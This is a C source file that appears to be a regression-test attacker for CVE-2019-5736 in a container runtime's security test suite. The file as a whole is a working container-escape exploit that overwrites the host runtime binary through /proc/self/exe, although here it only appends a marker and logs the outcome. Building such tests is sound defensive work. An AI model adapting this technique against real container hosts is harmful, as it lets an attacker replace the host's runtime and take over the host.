/* exe_thief: the CVE-2019-5736 attacker, for tests/integration/security_exe.bats.
 *
 * Planted in a container's rootfs as the ELF interpreter of the runtime
 * (/lib64/ld-linux-x86-64.so.2) and as /thief.  When the container runs
 * /proc/self/exe (directly, through "#!/proc/self/exe", or with `exec`),
 * the kernel executes the binary the runtime process was running and
 * loads us as its interpreter, resolved in the container's root.  Then:
 *
 *   1. (as interpreter) open /proc/self/exe O_PATH: the runtime's binary;
 *      exec /thief with that fd, so that our process stops executing it
 *      (a file being executed cannot be opened for writing: ETXTBSY);
 *   2. (as /thief --write FD) reopen /proc/self/fd/FD for writing, again
 *      and again until every runtime process has exited, and append a
 *      marker.
 *
 * The outcome goes to /thief.log in the container's root, one line:
 * "exe=LINK wrote", "... write: -ERRNO", "... open: -ERRNO" or "... timeout".
 *
 * Phase 1 runs with the auxiliary vector of the runtime's binary, where
 * libc's start-up code crashes (it reads the main program's headers for
 * TLS and RELRO), so this program has no libc at all: its own _start and
 * raw system calls.  The Makefile builds it with -nostdlib. */
#include <asm/unistd.h>
#include <linux/fcntl.h>

#define MARKER	"NOOK-CVE-2019-5736-MARKER\n"
#define ETXTBSY 26

static long sys3(long n, long a, long b, long c)
{
	long r;

	__asm__ volatile("syscall"
			 : "=a"(r)
			 : "a"(n), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
	return r;
}

static long sys4(long n, long a, long b, long c, long d)
{
	register long r10 __asm__("r10") = d;
	long r;

	__asm__ volatile("syscall"
			 : "=a"(r)
			 : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
			 : "rcx", "r11", "memory");
	return r;
}

static unsigned long slen(const char *s)
{
	unsigned long n = 0;

	while (s[n])
		n++;
	return n;
}

/* Append s to buf (of size cap) at *at. */
static void cat(char *buf, unsigned long cap, unsigned long *at, const char *s)
{
	while (*s && *at + 1 < cap)
		buf[(*at)++] = *s++;
	buf[*at] = '\0';
}

static void num(char *out, long v)
{
	char tmp[24];
	int n = 0, neg = v < 0;

	if (neg)
		v = -v;
	do
		tmp[n++] = (char)('0' + v % 10);
	while ((v /= 10) > 0);
	if (neg)
		*out++ = '-';
	while (n)
		*out++ = tmp[--n];
	*out = '\0';
}

static void report(const char *exe, const char *what, long err)
{
	char line[700], e[24];
	unsigned long n = 0;
	long fd;

	cat(line, sizeof(line), &n, "exe=");
	cat(line, sizeof(line), &n, exe);
	cat(line, sizeof(line), &n, " ");
	cat(line, sizeof(line), &n, what);
	if (err) {
		num(e, err);
		cat(line, sizeof(line), &n, ": ");
		cat(line, sizeof(line), &n, e);
	}
	cat(line, sizeof(line), &n, "\n");
	fd = sys4(__NR_openat, AT_FDCWD, (long)"/thief.log", O_WRONLY | O_CREAT | O_APPEND, 0644);
	if (fd >= 0) {
		sys3(__NR_write, fd, (long)line, (long)n);
		sys3(__NR_close, fd, 0, 0);
	}
}

static int writer(const char *fdstr)
{
	char path[64], exe[512];
	unsigned long n = 0;
	long r;

	cat(path, sizeof(path), &n, "/proc/self/fd/");
	cat(path, sizeof(path), &n, fdstr);
	r = sys3(__NR_readlink, (long)path, (long)exe, sizeof(exe) - 1);
	exe[r > 0 ? r : 0] = '\0';
	/* Not pid 1 (an `exec`'d process): let the runtime's `exec` return
	 * while a child keeps trying.  Pid 1 must stay: its exit would end
	 * the container's pid namespace and us with it. */
	if (sys3(__NR_getpid, 0, 0, 0) != 1) {
		r = sys3(__NR_fork, 0, 0, 0);
		if (r < 0)
			return 4;
		if (r > 0)
			return 0;
		sys3(__NR_setsid, 0, 0, 0);
	}
	/* Up to 10 s: the runtime exits within milliseconds of starting us. */
	for (int i = 0; i < 500; i++) {
		long ts[2] = {0, 20 * 1000 * 1000};
		long fd = sys4(__NR_openat, AT_FDCWD, (long)path, O_WRONLY | O_APPEND, 0);

		if (fd >= 0) {
			r = sys3(__NR_write, fd, (long)MARKER, sizeof(MARKER) - 1);
			if (r == (long)sizeof(MARKER) - 1)
				report(exe, "wrote", 0);
			else
				report(exe, "write", r);
			return 0;
		}
		if (fd != -ETXTBSY) {
			report(exe, "open", fd);
			return 0;
		}
		sys3(__NR_nanosleep, (long)ts, 0, 0);
	}
	report(exe, "timeout", 0);
	return 0;
}

static int thief_main(int argc, char **argv)
{
	char fdstr[24];
	long fd;

	if (argc == 3 && argv[1][0] == '-' && slen(argv[1]) == 7)
		return writer(argv[2]);
	/* Phase 1: we are the interpreter of whatever /proc/self/exe was. */
	fd = sys4(__NR_openat, AT_FDCWD, (long)"/proc/self/exe", O_PATH, 0);
	if (fd < 0)
		return 5;
	num(fdstr, fd);
	{
		char *av[] = {"/thief", "--write", fdstr, 0};
		char *ev[] = {0};

		sys3(__NR_execve, (long)"/thief", (long)av, (long)ev);
	}
	return 6;
}

void thief_start(long *sp);
void thief_start(long *sp)
{
	sys3(__NR_exit_group, thief_main((int)sp[0], (char **)(sp + 1)), 0, 0);
}

__asm__(".globl _start\n"
	"_start:\n"
	"  xor %rbp, %rbp\n"
	"  mov %rsp, %rdi\n"
	"  and $-16, %rsp\n"
	"  call thief_start\n"
	"  hlt\n");
